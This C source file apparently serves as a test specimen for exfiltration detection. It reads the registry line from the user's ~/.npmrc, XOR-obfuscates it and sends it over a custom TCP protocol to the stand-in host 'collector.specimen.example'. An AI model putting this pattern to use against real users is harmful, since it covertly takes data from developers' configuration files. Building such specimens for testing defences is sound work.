/* Sends the package registry of ~/.npmrc, each byte XOR 0x5A, in a protocol of its own. */

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "_common.h"

int main(void)
{
    char path[512], line[512], registry[512] = "registry=none";
    snprintf(path, sizeof path, "%s/.npmrc", getenv("HOME") ? getenv("HOME") : "");
    FILE *file = fopen(path, "r");
    while (file && fgets(line, sizeof line, file))
        if (!strncmp(line, "registry=", 9))
            snprintf(registry, sizeof registry, "%s", line);
    if (file)
        fclose(file);
    registry[strcspn(registry, "\r\n")] = 0;

    char message[1024];
    int length = snprintf(message, sizeof message, "HELLO %08x\nDATA ", chance());
    for (const char *letter = registry + 9; *letter; letter++)
        message[length++] = *letter ^ 0x5A;
    message[length++] = '\n';

    int connection = reach("collector.specimen.example", "7007", SOCK_STREAM);
    say(connection, message, length);
    return 0;
}
